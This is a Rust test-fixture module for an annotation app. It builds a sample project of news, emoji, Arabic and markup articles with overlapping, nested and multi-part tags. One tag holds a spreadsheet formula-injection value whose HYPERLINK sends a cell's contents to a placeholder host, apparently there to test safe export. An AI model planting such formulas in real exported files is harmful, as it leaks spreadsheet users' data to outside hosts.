//! What several of these tests need: test articles from disk, and a small project written by hand.

use std::path::{Path, PathBuf};

use demarche::domain::json::parse;
use demarche::domain::{
    Anchor, Annotation, AnnotationId, Codebook, Coder, CoderId, Confidence, Document, Extra,
    KindId, Origin, Parts, Project, ProjectId, ProjectMeta, SequentialIds, Span, Timestamp,
};
use demarche::format::plain_text;
use uuid::Uuid;

/// 24 November 2026, 09:30 UTC.
pub(crate) const NOW: Timestamp = Timestamp(1_795_512_600_000);

pub(crate) fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name)
}

pub(crate) fn bytes(name: &str) -> Vec<u8> {
    let path = data(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// A test article as the app opens it; its id is `id`.
pub(crate) fn article(name: &str, id: u128) -> Document {
    let mut ids = SequentialIds::starting_at(id);
    plain_text::article(name, &bytes(name), &mut ids, NOW).unwrap_or_else(|e| panic!("{name}: {e}"))
}

/// Where the words stand for the first time.
pub(crate) fn place(document: &Document, words: &str) -> Span {
    let all = document.text.as_str();
    let at = all
        .find(words)
        .unwrap_or_else(|| panic!("“{words}” is not in the text"));
    let before = all[..at].chars().count() as u32;
    let length = words.chars().count() as u32;
    let start = demarche::domain::Offset(before);
    Span::new(start, start.plus(length))
}

pub(crate) fn coder(id: u128, name: &str) -> Coder {
    Coder {
        id: CoderId::new(Uuid::from_u128(id)),
        name: name.to_owned(),
        extra: Extra::new(),
    }
}

/// A tag on the given words, one stretch each.
pub(crate) fn tag(id: u128, document: &Document, kind: &str, words: &[&str]) -> Annotation {
    let spans: Vec<Span> = words.iter().map(|w| place(document, w)).collect();
    Annotation {
        id: AnnotationId::new(Uuid::from_u128(id)),
        document: document.id(),
        kind: KindId::new(kind),
        anchor: Anchor::describe(&document.text, &spans).unwrap(),
        coded: None,
        actor: None,
        naming: None,
        memo: String::new(),
        confidence: None,
        coder: coder(1, "").id,
        created: NOW,
        modified: NOW,
        codebook_version: 1,
        origin: Origin::Human,
        extra: Extra::new(),
    }
}

/// Four articles and tags of every sort: overlapping, nested, identical, in two parts, on emoji and right-to-left text,
/// with memos that spreadsheets would run, by two coders, with keys of another program.
pub(crate) fn mixed_project() -> Project {
    let mut news = article("article.txt", 0x10);
    news.meta.outlet = "Velmora Gazette".to_owned();
    news.meta.language = "en".to_owned();
    news.meta.notes = "Read twice.".to_owned();
    let emoji = article("emoji.txt", 0x11);
    let arabic = article("arabic.txt", 0x12);
    let markup = article("markup.txt", 0x13);

    let mut tags = vec![
        tag(
            0x20,
            &news,
            "claim",
            &["the town could not wait another winter for a safe landing"],
        ),
        tag(
            0x21,
            &news,
            "demand",
            &["asked the families to give up eleven berths"],
        ),
        tag(0x22, &news, "actor", &["Mayor Ilsa Corrin"]),
        tag(
            0x23,
            &news,
            "demand",
            &["publish the drawings", "before any boat is moved"],
        ),
        tag(
            0x24,
            &news,
            "claim",
            &["publish the drawings, all of them, and to do so"],
        ),
        tag(
            0x25,
            &news,
            "demand",
            &["publish the drawings, all of them, and to do so"],
        ),
        tag(0x26, &news, "actor", &["the families"]),
        tag(
            0x27,
            &markup,
            "claim",
            &["=HYPERLINK(\"https://example.invalid/?\"&A1,\"Open\")"],
        ),
    ];
    let border = "A family of four 👨‍👩‍👧‍👦 waits at the border";
    tags.push(tag(0x30, &emoji, "claim", &[border]));
    tags.push(tag(0x31, &arabic, "actor", &["مجلس مدينة نور البحر"]));
    tags[0].memo = "+ says “winter”, not “year”\nCorrin → families".to_owned();
    tags[0].confidence = Confidence::new(0.8);
    tags[1].coder = coder(2, "Bo \"B\" Ek, PhD").id;
    tags[1].confidence = Confidence::new(1.0);
    tags[1].extra.insert(
        "stance".to_owned(),
        parse(br#"["against", 0.5, null]"#).unwrap(),
    );
    tags[2].origin = Origin::Imported;

    let meta = ProjectMeta {
        id: ProjectId::new(Uuid::from_u128(0x1)),
        title: "Harbour: ferries/berths".to_owned(),
        created: NOW,
        sample: false,
        extra: Extra::from([("funder".to_owned(), parse(br#"{ "grant": 7 }"#).unwrap())]),
    };
    assembled(
        meta,
        Codebook::claims_actors_demands(),
        vec![coder(1, ""), coder(2, "Bo \"B\" Ek, PhD")],
        vec![news, emoji, arabic, markup],
        tags,
    )
}

/// A project of these parts, without actors and links.
pub(crate) fn assembled(
    meta: ProjectMeta,
    codebook: Codebook,
    coders: Vec<Coder>,
    documents: Vec<Document>,
    annotations: Vec<Annotation>,
) -> Project {
    let parts = Parts {
        coders,
        documents,
        annotations,
        ..Parts::new(meta, codebook)
    };
    Project::assemble(parts).unwrap()
}
